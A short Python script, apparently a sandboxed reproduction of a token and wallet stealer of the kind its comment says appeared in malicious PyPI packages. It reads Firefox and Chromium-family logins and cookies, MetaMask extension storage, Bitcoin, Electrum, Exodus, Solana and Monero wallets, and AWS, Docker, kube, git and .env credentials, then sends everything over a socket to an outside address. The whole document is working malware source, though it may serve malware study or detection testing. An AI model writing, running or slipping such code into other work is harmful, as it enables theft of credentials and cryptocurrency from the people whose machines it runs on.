# A token/wallet stealer in plain Python, as shipped in malicious PyPI packages in 2024-2025:
# walks the browser profiles (Firefox logins/key4/cookies, Chromium-family Login Data,
# Cookies, Local State, the MetaMask extension's storage), the desktop and CLI crypto
# wallets and the cloud/CI credentials, then opens a connection to an outside address (the
# sandbox has only lo, so it fails with ENETUNREACH). All files are fake ones made for the run.
import glob, os, socket

home = os.path.expanduser("~")
patterns = [
    ".mozilla/firefox/*/logins.json", ".mozilla/firefox/*/key4.db", ".mozilla/firefox/*/cookies.sqlite",
    ".config/google-chrome/Local State", ".config/google-chrome/Default/Login Data",
    ".config/google-chrome/Default/Cookies",
    ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*",
    ".config/BraveSoftware/Brave-Browser/Default/Login Data", ".config/chromium/Default/Cookies",
    ".bitcoin/wallet.dat", ".electrum/wallets/*", ".config/Exodus/exodus.wallet/*",
    ".config/solana/id.json", ".config/Ledger Live/app.json", ".config/atomic/Local Storage/leveldb/*",
    ".monero/wallet.keys", ".aws/credentials", ".docker/config.json", ".kube/config",
    ".git-credentials", "projects/*/.env",
]
loot = {}
for p in patterns:
    for f in glob.glob(os.path.join(home, p)):
        try:
            with open(f, "rb") as fh:
                loot[f] = fh.read()
        except OSError:
            pass
s = socket.socket()
try:
    s.connect(("198.51.100.7", 443))
    s.sendall(repr(loot).encode())
except OSError:
    pass
